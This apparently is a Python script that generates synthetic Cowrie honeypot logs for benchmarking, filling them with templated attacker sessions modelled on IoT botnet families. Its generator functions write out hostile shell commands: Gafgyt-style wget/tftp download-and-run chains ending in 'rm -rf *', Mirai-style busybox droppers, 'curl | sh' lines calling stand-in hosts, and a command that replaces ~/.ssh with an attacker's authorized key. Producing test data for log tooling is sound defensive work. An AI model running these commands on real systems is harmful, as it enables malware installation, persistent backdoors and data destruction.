#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes a log as Cowrie does: cowrie_log.py LINES > log.jsonl

Sessions of a dozen made-up families with fresh hosts, tokens and names each time, up to 200 of them interleaved, beside
connection events as Cowrie logs them. The seed is fixed: equal LINES, equal bytes.
"""
import random
import sys

random.seed(20260101)


BYTES = [f"\\x{byte:02x}" for byte in range(256)]


def word(low=3, high=10):
    length = low + int(random.random() * (high - low + 1))
    return f"{random.getrandbits(4 * length):0{length}x}"


def host():
    return f"198.51.100.{random.randint(1, 254)}"


def payload():
    return "".join(map(BYTES.__getitem__, random.randbytes(32 + int(random.random() * 96))))


def gafgyt():
    s, h = word(), host()
    yield (f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{h}/{s}.sh; chmod 777 {s}.sh; sh {s}.sh; "
           f"tftp {h} -c get {s}1.sh; chmod 777 {s}1.sh; sh {s}1.sh; rm -rf {s}.sh {s}1.sh; rm -rf *")


def mirai():
    t, f = word().upper(), word()
    yield from ("enable", "system", "shell", "sh", f"/bin/busybox {t}")
    for d in random.sample(["/tmp", "/var", "/dev", "/mnt", "/var/run", "/dev/shm"], 4):
        yield f">{d}/.{f} && cd {d}/"
    yield f"/bin/busybox cp /bin/busybox {f}; >{f}; /bin/busybox chmod 777 {f}; /bin/busybox {t}"
    for _ in range(random.randint(2, 20)):
        yield f"echo -ne \"{payload()}\" >> {f}; /bin/busybox {t}"
    yield f"./{f} telnet.{word()}; /bin/busybox {t}"


def hajime():
    t, f = word(5, 5).upper(), word(1, 3)
    yield from ("enable", "shell", "sh", f"cat /proc/mounts; /bin/busybox {t}",
                f"cd /dev/shm; cat .{f} || cp /bin/echo .{f}; /bin/busybox {t}", f"tftp; wget; /bin/busybox {t}",
                f"dd bs=52 count=1 if=.{f} || cat .{f} || while read i; do echo $i; done < .{f}", f"rm .{f}; exit")


def survey():
    yield from random.sample(["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "w", "id", "nproc",
                              "lscpu | grep Model", "crontab -l", "whoami", "df -h | head -n 2"], random.randint(1, 8))


def key():
    yield (f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa {word(60, 60)} {word()}">>.ssh/authorized_keys && '
           "chmod -R go= ~/.ssh && cd ~")
    yield from survey()


def curl():
    yield f"(curl -s http://{host()}/{word()} || wget -qO- http://{host()}/{word()}) | sh"


FAMILIES = [gafgyt, mirai, hajime, survey, key, curl]


def quoted(text):
    return text.replace("\\", "\\\\").replace('"', '\\"')


def events():
    """(session, what Cowrie says beside it), endlessly."""
    number, running = 0, []
    while True:
        if len(running) < 200:
            number += 1
            running.append((f"{number:012x}", random.choice(FAMILIES)()))
            yield running[-1][0], "connect", '"protocol": "telnet"'
            continue
        at = int(random.random() * 200)
        name, commands = running[at]
        text = next(commands, None)
        if text is None:
            running.pop(at)
            yield name, "closed", '"duration": 1.5'
        else:
            yield name, "input", f'"input": "{quoted(text)}", "message": "CMD: {quoted(text)}"'


KINDS = {"connect": "cowrie.session.connect", "closed": "cowrie.session.closed", "input": "cowrie.command.input"}


def main():
    wanted = int(sys.argv[1])
    for line, (session, kind, rest) in zip(range(wanted), events()):
        minutes = line // 600
        time = f"2026-{1 + minutes // 40320 % 12:02}-{1 + minutes // 1440 % 28:02}T{minutes // 60 % 24:02}:{minutes % 60:02}:{line // 10 % 60:02}.{line % 10}00000Z"
        sys.stdout.write(f'{{"eventid": "{KINDS[kind]}", "session": "{session}", "timestamp": "{time}", "sensor": "bench", "src_ip": "192.0.2.9", {rest}}}\n')


main()
